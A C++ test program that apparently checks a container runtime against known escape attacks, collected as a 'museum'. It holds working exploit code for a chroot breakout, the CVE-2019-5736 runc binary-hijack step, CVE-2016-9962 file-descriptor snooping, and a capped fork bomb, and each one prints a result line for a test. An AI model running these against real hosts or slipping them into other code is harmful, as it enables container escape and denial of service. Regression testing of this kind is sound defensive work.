// The attacks of the museum that a shell cannot do, as one static program that is put into a
// container. Each prints what came of it, in a line that the test reads.
#include <dirent.h>
#include <fcntl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#include <cerrno>
#include <climits>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>
#include <string_view>

namespace {

/// Chapter 3's walk out of a chroot: a root below the working directory does not stop "..".
void climb() {
    ::mkdir("/hole", 0755);
    if (::chroot("/hole") < 0) std::puts("chroot refused");
    for (int i = 0; i < 50; ++i)
        if (::chdir("..") < 0) std::puts("chdir refused");
    if (::chroot(".") < 0) std::puts("chroot refused");
    std::puts(::access("/i-am-the-host", F_OK) == 0 ? "outside" : "inside");
}

bool is_number(const char* text) {
    return *text >= '0' && *text <= '9';
}

/// CVE-2019-5736: waits for a process that runs from the runtime's own file, takes a descriptor of
/// the file, and when nobody runs it any more opens it again for writing.
void steal_runtime(const char* marker) {
    int file = -1;
    for (int round = 0; round < 200 && file < 0; ++round, ::usleep(50'000)) {
        DIR* listing = ::opendir("/proc");
        while (const dirent* entry = ::readdir(listing)) {
            if (!is_number(entry->d_name)) continue;
            const std::string process = std::string{"/proc/"} + entry->d_name;
            char words[4096] = {};
            const int text = ::open((process + "/cmdline").c_str(), O_RDONLY);
            const ssize_t size = ::read(text, words, sizeof words - 1);
            ::close(text);
            if (size <= 0 || ::memmem(words, static_cast<std::size_t>(size), marker,
                                      std::strlen(marker)) == nullptr) {
                continue;
            }
            if (std::atoi(entry->d_name) == ::getpid()) continue;
            file = ::open((process + "/exe").c_str(), O_RDONLY);
        }
        ::closedir(listing);
    }
    if (file < 0) {
        std::puts("nothing to steal");
        return;
    }
    std::puts("stolen");
    std::fflush(stdout);
    const std::string again = "/proc/self/fd/" + std::to_string(file);
    for (int round = 0; round < 100; ++round, ::usleep(50'000)) {
        if (::open(again.c_str(), O_WRONLY) >= 0) {
            std::puts("opened for writing");
            return;
        }
        if (errno != ETXTBSY) break;
    }
    std::printf("not opened: %s\n", std::strerror(errno));
}

/// CVE-2016-9962: looks at the open files of every process that comes into the container.
void peek() {
    for (int round = 0; round < 3000; ++round) {
        DIR* listing = ::opendir("/proc");
        while (const dirent* entry = ::readdir(listing)) {
            if (!is_number(entry->d_name) || std::atoi(entry->d_name) == ::getpid()) continue;
            for (int fd = 3; fd < 20; ++fd) {
                const std::string link =
                    std::string{"/proc/"} + entry->d_name + "/fd/" + std::to_string(fd);
                char target[PATH_MAX] = {};
                if (::readlink(link.c_str(), target, sizeof target - 1) > 0) {
                    std::printf("saw %s -> %s\n", link.c_str(), target);
                    std::fflush(stdout);
                }
            }
        }
        ::closedir(listing);
    }
    std::puts("looked enough");
}

/// The number of the session keyring: two processes that share it show the same.
void keyring() {
    constexpr int get_keyring_id = 0;
    constexpr int session_keyring = -3;
    const long id = ::syscall(SYS_keyctl, get_keyring_id, session_keyring, 0);
    if (id < 0) {
        std::printf("%s\n", std::strerror(errno));
    } else {
        std::printf("%ld\n", id);
    }
}

/// A fork bomb with a fuse: tells how many children it got.
void fork_many() {
    int children = 0;
    while (children < 1000) {
        const pid_t pid = ::fork();
        if (pid < 0) break;
        if (pid == 0) {
            ::pause();
            ::_exit(0);
        }
        ++children;
    }
    std::printf("%d children, then: %s\n", children, std::strerror(errno));
}

}  // namespace

int main(int argc, char** argv) {
    const std::string_view what = argc > 1 ? argv[1] : "";
    if (what == "climb") climb();
    if (what == "steal-runtime") steal_runtime(argv[2]);
    if (what == "peek") peek();
    if (what == "keyring") keyring();
    if (what == "fork") fork_many();
    return 0;
}
